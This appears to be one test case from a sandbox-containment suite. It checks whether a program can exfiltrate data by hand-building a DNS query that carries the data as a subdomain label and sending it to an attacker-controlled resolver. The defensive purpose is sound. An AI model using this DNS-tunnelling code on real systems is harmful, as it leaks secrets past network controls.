ID = "dns.direct-resolver"
CATEGORY = "dns"
DESCRIPTION = "send a DNS query carrying the data as a label straight to the attacker's resolver"
CLAIMS = ("rule:network (namespace)",)
CODE = """
name = f"{DATA}.x.{DOMAIN}"
q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(
    bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\x00\\x00\\x01\\x00\\x01"
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(1)
        u.sendto(q, (DNS_HOST, DNS_PORT))
        u.recv(512)
    out("ALLOWED", "the resolver answered")
except OSError as e:
    out("DENIED", f"query to {DNS_HOST}:{DNS_PORT}: {ename(e)}")
"""
CONTROL = "host"
CONTAINED = "the query never reaches the resolver: its log holds no query with the data"
